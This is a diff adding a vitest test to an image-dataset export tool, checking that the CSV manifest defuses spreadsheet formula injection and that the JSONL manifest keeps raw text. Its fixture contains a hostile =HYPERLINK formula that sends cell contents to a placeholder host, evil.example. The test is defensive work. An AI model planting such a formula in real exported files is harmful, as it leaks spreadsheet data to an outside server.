@@ -1,4 +1,4 @@
-import { readFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
@@ -174,6 +174,37 @@ describe('export', () => {
     expect(getClass(target.db, again(kept!.imageHash).labelId).name).toBe('shirt');
     source.close();
     target.close();
+  });
+
+  it('manifest.csv: text a spreadsheet would run as a formula is quoted, numbers stay numbers', async () => {
+    const work = tempDir();
+    await makeImageFolder(join(work, 'real'), { shirt: 1 });
+    await makeImageFolder(join(work, 'synthetic'), { shirt: 3 }, 50);
+    const hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")';
+    const lines = [
+      { file_name: 'shirt/shirt-0.png', prompt: hostile, seed: -7, scores: { contribution: -0.25 } },
+      { file_name: 'shirt/shirt-1.png', prompt: '@SUM(1+1)', negative_prompt: '+1', seed: 3 },
+      { file_name: 'shirt/shirt-2.png', prompt: '-2+3', negative_prompt: '\tcmd', seed: 4 },
+    ];
+    writeFileSync(join(work, 'synthetic', 'metadata.jsonl'), lines.map((l) => JSON.stringify(l)).join('\n'));
+    const project = await projectWithSynthetic(work, 'p');
+    expect((await importSynthetic(project, join(work, 'synthetic'))).imported).toBe(3);
+    for (const i of listInstances(project.db)) setStatus(project.db, i.id, 'accepted');
+    await exportDataset(project, join(work, 'out'), { formats: ['csv', 'jsonl'] });
+    project.close();
+
+    const rows = parse(readFileSync(join(work, 'out', 'manifest.csv')), { columns: true }) as Record<string, string>[];
+    const bySeed = (seed: string) => rows.find((r) => r.seed === seed);
+    expect(bySeed('-7')).toMatchObject({ prompt: `'${hostile}`, score_contribution: '-0.25' });
+    expect(bySeed('3')).toMatchObject({ prompt: "'@SUM(1+1)", negative_prompt: "'+1" });
+    expect(bySeed('4')).toMatchObject({ prompt: "'-2+3", negative_prompt: "'\tcmd" });
+    // The JSON manifest is data, not a spreadsheet: its text is exactly what was stored.
+    const jsonl = readFileSync(join(work, 'out', 'manifest.jsonl'), 'utf8')
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as { prompt: string; seed: number });
+    expect(jsonl.map((r) => r.prompt).sort()).toEqual([hostile, '-2+3', '@SUM(1+1)'].sort());
+    expect(jsonl.find((r) => r.prompt === hostile)?.seed).toBe(-7);
   });
 
   it('refuses a non-empty destination and leaves no partial folder behind', async () => {
